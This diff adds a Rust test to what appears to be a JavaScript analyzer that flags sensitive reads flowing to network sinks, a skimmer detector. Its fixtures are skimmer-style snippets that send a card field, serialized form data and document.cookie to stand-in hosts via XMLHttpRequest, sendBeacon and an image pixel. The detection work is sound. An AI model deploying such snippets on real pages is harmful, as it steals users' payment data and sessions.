@@ -109,3 +109,29 @@ document.addEventListener(_0x1a[3], function () {
     }
     assert!(a.domains.contains("cdn-jquery.shop"), "{:?}", a.domains);
 }
+
+#[test]
+fn sensitive_reads_reaching_network_sinks_are_flows() {
+    let flows = |src: &str| {
+        analyze(src, &Options::default())
+            .flows
+            .into_iter()
+            .collect::<Vec<_>>()
+    };
+    // Through a variable and JSON.stringify into XMLHttpRequest.send.
+    let xhr = r##"var f = document.querySelector("#cc").value;
+        var body = JSON.stringify({ card: f });
+        var x = new XMLHttpRequest(); x.open("POST", "https://collect.example/c"); x.send(body);"##;
+    assert_eq!(flows(xhr), ["read:form-fields -> network:xhr"]);
+    // Through an object filled in a callback, into a beacon.
+    let beacon = r#"var n = {}; $("form").serializeArray().map(function (a) { n[a.name] = a.value; });
+        navigator.sendBeacon("https://c.example/b", JSON.stringify(n));"#;
+    assert_eq!(flows(beacon), ["read:form-fields -> network:beacon"]);
+    // Cookies into an image URL.
+    let pixel =
+        r#"var c = document.cookie; var i = new Image(); i.src = "https://t.example/p?c=" + c;"#;
+    assert_eq!(flows(pixel), ["read:cookie -> network:image"]);
+    // Reads that go nowhere near a sink, and sinks that send nothing sensitive: no flow.
+    let quiet = r#"var v = input.value; console.log(v.length); fetch("/api/ping", { method: "POST", body: "{}" });"#;
+    assert!(flows(quiet).is_empty(), "{:?}", flows(quiet));
+}
